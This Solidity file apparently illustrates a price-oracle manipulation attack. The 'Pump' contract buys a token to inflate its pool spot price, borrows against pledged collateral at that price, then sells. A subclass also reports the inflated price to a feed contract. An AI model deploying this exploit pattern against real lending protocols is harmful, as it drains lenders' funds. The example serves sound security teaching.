// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Feed} from "./Feed.sol";
import {Pool} from "./Pool.sol";

interface ILender {
    function borrow(uint256 coins, uint256 amount) external;
}

// #region attack
contract Pump {
    /// Buys COIN until it looks expensive, pledges some that it had before, borrows, and sells what it bought.
    function attack(Pool pool, ILender lender, uint256 pledge, uint256 loan) external payable {
        uint256 before = pool.COIN().balanceOf(address(this));
        pool.buyCoin{value: msg.value}();
        uint256 bought = pool.COIN().balanceOf(address(this)) - before;
        _onceBought(pool);

        pool.COIN().approve(address(lender), pledge);
        lender.borrow(pledge, loan);

        pool.COIN().approve(address(pool), bought);
        pool.sellCoin(bought);
    }

    function _onceBought(Pool) internal virtual {}

    receive() external payable {}
}
// #endregion attack

// #region second
/// Moves the feed along with the pool, so that the two agree.
contract PumpAndReport is Pump {
    Feed private immutable FEED;

    constructor(Feed feed) {
        FEED = feed;
    }

    function _onceBought(Pool pool) internal override {
        FEED.report(pool.spotPrice());
    }
}
// #endregion second
